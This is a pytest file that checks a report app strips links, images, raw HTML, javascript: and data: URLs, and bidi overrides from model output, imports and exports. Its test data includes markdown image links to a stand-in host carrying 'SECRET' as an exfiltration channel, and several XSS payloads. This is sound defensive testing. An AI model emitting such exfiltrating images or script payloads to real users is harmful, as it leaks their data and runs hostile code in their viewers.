"""Untrusted text stays inert (issue 15, items 4, 5 and 11): model output keeps no link,
image, autolink, link definition or raw HTML; the app never renders a remote image or a
link from a body; exported Markdown escapes HTML and links only to web (or corpus) pages;
a corpus page with another scheme is refused at import; bidi overrides are stripped.

"Live" is decided by a CommonMark parser with raw HTML on and tables (as a Markdown
viewer reads the text), never by looking for substrings.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token
from sqlmodel import select

from core.app.export import export_version, version_markdown
from core.app.importer import import_report
from core.app.version_views import version_html
from core.app.view_text import markdown_html
from core.errors import EvergreenError
from core.sources.corpus import Corpus
from core.store.db import session_scope
from core.store.models import Source
from core.store.repository import get_report
from core.writers.reply_checks import clean_body

VIEWER = MarkdownIt("commonmark", {"html": True}).enable("table")
VIEWER.validateLink = lambda url: True  # as a viewer that renders javascript: links
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"

# Each way round the old regex filter (issue 15, item 4), with the text that must stay.
BYPASSES = {
    "reference image": (
        "A chart ![pix][y] here [1].\n\n[y]: http://evil.example/pix?d=SECRET",
        "pix",
    ),
    "reference link": ("Read [the note][y] [1].\n\n[y]: http://evil.example/ref", "the note"),
    "shortcut link": ("Read [note] [1].\n\n[note]: http://evil.example/s", "note"),
    "titled link": ('See [this](http://evil.example/t "Title") [1].', "this"),
    "titled image": ('![alt](http://evil.example/i.png "T") shown [1].', "alt"),
    "autolink": ("Go to <http://evil.example/auto> now [1].", "now"),
    "link text with a marker": ("As [reported [1]](http://evil.example/m) before.", "reported [1]"),
    "link over two lines": ("As [reported\nwidely](http://evil.example/two) [1].", "widely"),
    "script link": ("Click [here](javascript:alert(1)) [1].", "here"),
    "nested": ("[[in](http://evil.example/a)](http://evil.example/b) [1]", "in"),
    "raw html": ('Text <img src="http://evil.example/x" onerror="alert(1)"> [1].', "Text"),
    "html block": ("<div>\n<script>alert(1)</script>\n</div>\n\nAfter [1].", "After"),
    "table cell": ("| a | b |\n|---|---|\n| ![p](http://evil.example/c) | x [1] |", "x [1]"),
}


def live(tokens: list[Token]) -> list[str]:
    """Every link, image or raw HTML token, at any depth."""
    found = []
    for token in tokens:
        if token.type in ("link_open", "image", "html_inline", "html_block"):
            found.append(token.type)
        found += live(token.children or [])
    return found


def assert_inert(markdown: str) -> None:
    env: dict = {}
    assert live(VIEWER.parse(markdown, env)) == [], markdown
    assert not env.get("references"), markdown


# -- item 4: the model-output filter ----------------------------------------------------------
@pytest.mark.parametrize("name", list(BYPASSES))
def test_clean_body_leaves_no_link_image_autolink_definition_or_html(name: str) -> None:
    text, visible = BYPASSES[name]
    body = clean_body(text, "Heading")
    assert_inert(body)
    if name not in ("autolink", "raw html"):  # there the address is the text shown
        assert "evil.example" not in body  # links and images: the text stays, the URL goes
    assert " ".join(visible.split()) in " ".join(body.split())


def test_clean_body_keeps_citations_and_the_words() -> None:
    body = clean_body(
        "Prices fell [1]. Storage grew [2, 3].\n\n[4](http://evil.example/x) too.", "H"
    )
    assert body == "Prices fell [1]. Storage grew [2, 3].\n\n[4] too."


def test_untrusted_cleaning_is_idempotent_and_keeps_code() -> None:
    from core.domain.untrusted import clean_markdown

    text = "`[x](http://code.example)` and\n\n    <script>kept as code</script>\n"
    assert clean_markdown(text) == text
    for text, _ in BYPASSES.values():
        once = clean_markdown(text)
        assert clean_markdown(once) == once


# -- item 4: no remote image or link is rendered by the app -------------------------------------
HOSTILE_BODY = (
    "Prices fell [1]. ![pix](http://evil.example/pix?d=SECRET) and ![ref][y] "
    "<http://evil.example/auto> [x](javascript:alert(1)) [t](http://evil.example/t 'T')\n\n"
    "[y]: http://evil.example/pix-exfil-ref?d=SECRET"
)


def test_app_body_html_has_no_remote_image_or_link() -> None:
    html = markdown_html(HOSTILE_BODY, {1})
    assert "<img" not in html
    assert "<a " in html  # the citation link
    links = [part.split('"')[1] for part in html.split("href=")[1:]]
    assert links == ["#ref-1"], links


def import_hostile(session, title: str = "Report") -> int:  # noqa: ANN001
    text = (
        f"# {title}\n\n## Findings\n\n{HOSTILE_BODY}\n\n"
        "## References\n\n[1] [Index](https://index.example/a)\n"
    )
    report, _ = import_report(session, text, query="What changed?", source="web")
    return int(report.id)


def test_version_page_and_preview_render_no_remote_image(workspace: Path) -> None:
    with session_scope() as session:
        report = get_report(session, import_hostile(session))
        page = version_html(session, report)
        preview = version_markdown(session, report)  # what the Reports screen shows
    # (the importer made the body's http links citations: the References may link to them)
    page_body = page.split("<h2>References")[0]
    assert "<img" not in page_body and "javascript:" not in page_body
    assert [p.split('"')[1] for p in page_body.split("href=")[1:]] == ["#ref-1", "#ref-2", "#ref-3"]
    body = preview.split("## References")[0]
    assert_inert(body)
    assert "pix" in body and "Prices fell [1]." in body


# -- item 5: exported Markdown escapes HTML; only web links ------------------------------------
def test_exported_markdown_escapes_html_from_every_field(workspace: Path, tmp_path: Path) -> None:
    payload = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    text = (
        f"# Title {payload}\n\n## Heading {payload}\n\nBody {payload} [1].\n\n"
        f"<script>alert(3)</script>\n\n## References\n\n"
        f"[1] [Page {payload}](https://page.example/a)\n"
    )
    with session_scope() as session:
        report, _ = import_report(session, text, query="What?", source="web")
        out = export_version(session, report, tmp_path / "r.md")
    exported = out.read_text(encoding="utf-8")
    tokens = VIEWER.parse(exported)
    assert [t for t in live(tokens) if t != "link_open"] == []
    links = [t.attrGet("href") for t in tokens for t in (t.children or []) if t.type == "link_open"]
    assert links == ["https://page.example/a"]
    assert exported.count("&lt;script>alert(") == 5  # title, heading, body (2), reference


def test_exported_reference_with_a_script_url_is_plain_text(
    workspace: Path, tmp_path: Path
) -> None:
    text = "# R\n\nFact [1].\n\n## References\n\n[1] [Page](https://page.example/a)\n"
    with session_scope() as session:
        report, _ = import_report(session, text, query="What?", source="web")
        source = session.exec(select(Source).where(Source.url == "https://page.example/a")).one()
        source.url = "javascript:alert(document.domain)"
        session.add(source)
        session.flush()
        exported = export_version(session, report, tmp_path / "r.md").read_text()
    assert "javascript:" not in exported
    assert "[1] Page" in exported


def jsonl(path: Path, urls: list[str]) -> Path:
    rows = [
        {"url": url, "title": f"Page {i}", "as_of": "2026-01-01", "content": f"Text {i}."}
        for i, url in enumerate(urls)
    ]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,<script>x</script>"])
def test_corpus_import_refuses_a_page_url_that_is_not_a_web_page(
    workspace: Path, tmp_path: Path, url: str
) -> None:
    data = jsonl(tmp_path / "pages.jsonl", ["https://ok.example/a", url])
    corpus = Corpus.open("hostile", create=True)
    try:
        with pytest.raises(EvergreenError, match=r"pages.jsonl line 2: url .* not a web page"):
            corpus.import_path(data)
        assert corpus.stats()["pages"] == 0  # all or nothing
        result = corpus.import_path(data, skip_bad=True)
        assert len(result.skipped) == 1 and "line 2" in result.skipped[0]
        assert corpus.stats()["pages"] == 1
    finally:
        corpus.close()


def test_folder_corpus_refuses_a_front_matter_url_with_another_scheme(
    workspace: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "good.md").write_text("# Good\n\nText.\n", encoding="utf-8")
    (folder / "bad.md").write_text("---\nurl: javascript:alert(1)\n---\n# Bad\n\nText.\n")
    corpus = Corpus.open("folder", create=True)
    try:
        with pytest.raises(EvergreenError, match=r"bad.md: url .* not a web page"):
            corpus.import_path(folder)
        result = corpus.import_path(folder, skip_bad=True)
        assert [s.split(":")[0] for s in result.skipped] == ["bad.md"]
    finally:
        corpus.close()


# -- item 11: bidi overrides ----------------------------------------------------------------
def test_bidi_overrides_are_stripped_from_model_output_and_what_the_app_shows(
    workspace: Path,
) -> None:
    assert clean_body(f"Prices{BIDI} fell [1].", "H") == "Prices fell [1]."
    assert not set(BIDI) & set(markdown_html(f"x{BIDI}y", set()))
    text = (
        f"# T{BIDI}\n\n## H{BIDI}\n\nBody{BIDI} [1].\n\n"
        f"## References\n\n[1] [P{BIDI}](https://p.example/)\n"
    )
    with session_scope() as session:
        report, _ = import_report(session, text, query="What?", source="web")
        page = version_html(session, report)
        exported = version_markdown(session, report, with_version_line=True)
    assert not set(BIDI) & set(page)
    assert not set(BIDI) & set(exported)


def test_the_app_listens_on_loopback_only() -> None:
    import tomllib
    from pathlib import Path

    config = Path(__file__).resolve().parents[1] / ".streamlit" / "config.toml"
    assert tomllib.loads(config.read_text())["server"]["address"] == "127.0.0.1"


def test_an_error_message_quoting_a_page_renders_no_image_or_link() -> None:
    from streamlit.testing.v1 import AppTest

    def page() -> None:
        from core.errors import EvergreenError
        from pages._shared import show_error

        show_error(EvergreenError("Cannot fetch ![x](http://127.0.0.1:9/p.png) [y](http://a.b)"))

    at = AppTest.from_function(page, default_timeout=60).run()
    [shown] = at.error
    assert "![x](" not in shown.value and "[y](" not in shown.value
    assert "Cannot fetch" in shown.value
